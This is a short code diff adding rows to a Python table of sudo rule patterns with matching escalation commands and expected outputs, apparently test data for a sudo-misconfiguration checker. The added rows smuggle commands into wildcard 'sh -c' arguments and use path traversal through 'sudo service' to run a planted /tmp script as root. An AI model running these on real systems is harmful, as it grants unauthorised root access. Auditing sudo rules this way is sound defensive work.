@@ -45,6 +45,12 @@ TRIED = {
     "/usr/bin/env bash": Tried("sudo -n env bash", ID, "0", ROOT),
     "/usr/bin/env /usr/bin/true": Tried("sudo -n env /usr/bin/true", ID, "", None),
     "/usr/bin/timeout 9 nice sh": Tried("sudo -n timeout 9 nice sh", ID, "0", ROOT),
+    "/bin/sh -c /srv/job *": Tried("sudo -n sh -c '/srv/job x; id -u' 2>&1 | grep -x 0", "", "0", ROOT),
+    "/bin/sh /srv/job *": Tried("sudo -n sh /srv/job '; id -u'", "", "done", None),
+    "/usr/sbin/service * restart": Tried(
+        "mkdir -p /tmp/x/a; printf '#!/bin/sh\nid -u\n' >/tmp/x/s; chmod 755 /tmp/x/s;"
+        " sudo -n service ../../tmp/x/s restart", "", "0", ROOT,
+    ),
     "/usr/bin/perl -d /srv/x.pl": Tried(
         "sudo -n perl -d /srv/x.pl", "print 0 + $<, qq(\\n)\nq\n", "0", ROOT
     ),
